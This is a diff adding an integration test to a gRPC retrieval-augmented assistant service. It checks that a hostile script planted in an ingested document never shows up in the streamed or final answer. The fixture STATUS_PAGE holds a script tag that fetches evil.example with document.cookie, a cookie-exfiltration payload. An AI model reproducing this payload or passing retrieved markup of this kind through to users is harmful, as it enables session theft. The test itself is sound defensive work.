@@ -154,6 +154,44 @@ def test_ask_stream_sends_sources_then_text_then_the_final_answer(
     assert done.citations[0].document_id == ingested["kb://handbook/security.txt"]
 
 
+MARKUP_TENANT = "markup-lab"
+STATUS_PAGE = (
+    b"# Outage status page\n\nThe outage status page lives on the intranet portal "
+    b"<script>fetch('https://evil.example/?c='+document.cookie)</script> under Operations.\n"
+)
+
+
+def test_a_streamed_answer_is_checked_sentence_by_sentence_before_the_caller_reads_it(
+    channels: dict[str, grpc.Channel],
+) -> None:
+    """The document carries a script; the model repeats it; no streamed piece and not the final answer has it."""
+    who = as_user("quinn", tenant=MARKUP_TENANT)
+    ingestion = ingestion_pb2_grpc.IngestionStub(channels["ingestion"])
+    header = ingestion_pb2.DocumentHeader(source_uri="kb://ops/status.md")
+    created = ingestion.Ingest(ingestion_pb2.IngestRequest(header=header, content=STATUS_PAGE), metadata=who)
+
+    def indexed() -> bool | None:
+        doc = ingestion.GetDocument(ingestion_pb2.GetDocumentRequest(document_id=created.document_id), metadata=who)
+        return True if doc.versions[-1].stage == ingestion_pb2.PIPELINE_STAGE_INDEXED else None
+
+    eventually(indexed, timeout_s=60)
+    hits = retrieval_pb2_grpc.RetrievalStub(channels["retrieval"]).Search(
+        retrieval_pb2.SearchRequest(query="Where does the outage status page live?", top_k=3), metadata=who
+    )
+    assert any("<script>" in h.chunk.text for h in hits.hits)  # the raw source carries the payload
+
+    assistant = gateway_pb2_grpc.AssistantStub(channels["gateway"])
+    messages = list(
+        assistant.AskStream(gateway_pb2.AskRequest(query="Where does the outage status page live?"), metadata=who)
+    )
+    deltas = [m.delta for m in messages if m.WhichOneof("event") == "delta"]
+    done = messages[-1].done
+    assert deltas and "intranet portal" in "".join(deltas)
+    assert not any("<script" in d.lower() for d in deltas)
+    assert "<script" not in done.answer.lower()
+    assert "".join(deltas).strip() == done.answer
+
+
 def test_reingesting_the_same_content_is_a_no_op_and_a_change_makes_a_new_version(
     channels: dict[str, grpc.Channel], ingested: dict[str, str]
 ) -> None:
